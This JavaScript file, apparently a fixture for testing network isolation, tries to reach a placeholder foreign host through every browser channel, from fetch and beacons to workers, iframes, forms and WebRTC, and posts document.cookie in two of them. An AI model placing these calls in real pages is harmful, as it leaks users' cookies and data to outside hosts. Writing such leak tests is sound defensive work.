// Tries to carry what the page knows to another host, in every way that a page has.

const foreign = "//FOREIGN/";
const attempt = (body) => { try { body(); } catch { /* The other ways are tried all the same. */ } };
const add = (name, properties) => document.head.append(Object.assign(document.createElement(name), properties));
const inFrame = (name) => {
  const frame = Object.assign(document.createElement("iframe"), { name, hidden: true });
  document.body.append(frame);
  return frame;
};
const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
const address = location.protocol + foreign;

attempt(() => fetch(address + "fetch", { method: "POST", mode: "no-cors", body: document.cookie }).catch(() => {}));
attempt(() => fetch("/away/redirect", { mode: "no-cors" }).catch(() => {}));
attempt(() => { new Image().src = address + "image"; });
attempt(() => navigator.sendBeacon(address + "beacon", document.cookie));
attempt(() => new WebSocket(address.replace("http", "ws") + "socket"));
attempt(() => new EventSource(address + "events"));
attempt(() => new Worker(blob(`fetch("${address}worker", { mode: "no-cors" })`)));
attempt(() => new SharedWorker(blob(`fetch("${address}shared-worker", { mode: "no-cors" })`)));
attempt(() => add("script", { src: address + "script" }));
attempt(() => add("link", { rel: "stylesheet", href: address + "style" }));
attempt(() => add("link", { rel: "prefetch", href: address + "prefetch" }));
attempt(() => add("link", { rel: "preconnect", href: address }));
attempt(() => add("link", { rel: "dns-prefetch", href: address }));
attempt(() => { inFrame("frame").src = address + "frame"; });
attempt(() => { inFrame("away").src = "/away/frame-redirect"; });
attempt(() => {
  inFrame("form");
  const form = Object.assign(document.createElement("form"), {
    method: "post", action: address + "form", target: "form", hidden: true,
  });
  document.body.append(form);
  form.submit();
});
attempt(() => {
  inFrame("download");
  Object.assign(document.createElement("a"), { href: address + "download", download: "a", target: "download" }).click();
});
attempt(() => new WebTransport("https:" + foreign + "transport"));
attempt(() => {
  const host = foreign.replaceAll("/", "");
  const peer = new RTCPeerConnection({ iceServers: [
    { urls: "stun:" + host },
    { urls: ["turn:" + host + "?transport=udp", "turn:" + host + "?transport=tcp"], username: "a", credential: "b" },
  ] });
  peer.createDataChannel("a");
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
});
